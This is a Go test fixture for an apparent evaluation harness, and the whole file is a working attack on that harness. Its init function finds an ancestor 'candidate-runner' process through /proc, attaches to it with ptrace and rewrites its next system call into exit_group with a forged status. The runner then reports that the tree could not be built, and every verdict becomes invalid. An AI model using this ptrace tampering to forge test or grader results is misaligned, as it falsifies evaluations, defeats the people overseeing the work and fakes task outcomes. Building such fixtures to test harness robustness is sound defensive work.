package main

// The attack this fixture carries: the program forges the candidate
// runner's "this tree could not be tested" status at run time. Run by a
// stage-3 candidate (SRB_WORK set), it finds its ancestor
// "candidate-runner" (the task runner's last bash, which maps a
// candidate's own 64-78 to 1 "so only the runner can say a tree could not
// be tested"), which runs as the same uid, attaches to it with ptrace (no
// Yama on this machine: any process may trace another of its uid), and at
// its next system call entry turns that call into exit_group(71): the
// run's status is 71, the runner's "the tree does not build". Every pair
// whose candidate runs the program is then invalid, never a break: the
// defect of large-input survives or the round is an error (an invalid
// verdict), where large-input earns 90.

import (
	"os"
	"runtime"
	"strconv"
	"strings"
	"syscall"
)

func ancestorNamed(name string) int {
	pid := os.Getppid()
	for i := 0; i < 16 && pid > 1; i++ {
		cmd, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/cmdline")
		if strings.Contains(string(cmd), name) {
			return pid
		}
		stat, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
		if err != nil {
			return 0
		}
		s := string(stat)
		f := strings.Fields(s[strings.LastIndexByte(s, ')')+2:])
		if len(f) < 2 {
			return 0
		}
		pid, _ = strconv.Atoi(f[1])
	}
	return 0
}

func init() {
	if os.Getenv("SRB_WORK") == "" || len(os.Args) > 1 {
		return
	}
	pid := ancestorNamed("candidate-runner")
	if pid == 0 {
		return
	}
	runtime.LockOSThread()
	if syscall.PtraceAttach(pid) != nil {
		return
	}
	var ws syscall.WaitStatus
	syscall.Wait4(pid, &ws, syscall.WALL, nil)
	syscall.PtraceSetOptions(pid, syscall.PTRACE_O_TRACESYSGOOD)
	for i := 0; i < 32; i++ {
		if syscall.PtraceSyscall(pid, 0) != nil {
			return
		}
		if _, err := syscall.Wait4(pid, &ws, syscall.WALL, nil); err != nil {
			return
		}
		if ws.Stopped() && ws.StopSignal() == syscall.SIGTRAP|0x80 {
			var regs syscall.PtraceRegs
			if syscall.PtraceGetRegs(pid, &regs) != nil {
				return
			}
			regs.Orig_rax = syscall.SYS_EXIT_GROUP
			regs.Rdi = forgedStatus
			syscall.PtraceSetRegs(pid, &regs)
			syscall.PtraceDetach(pid)
			os.Exit(0)
		}
	}
}
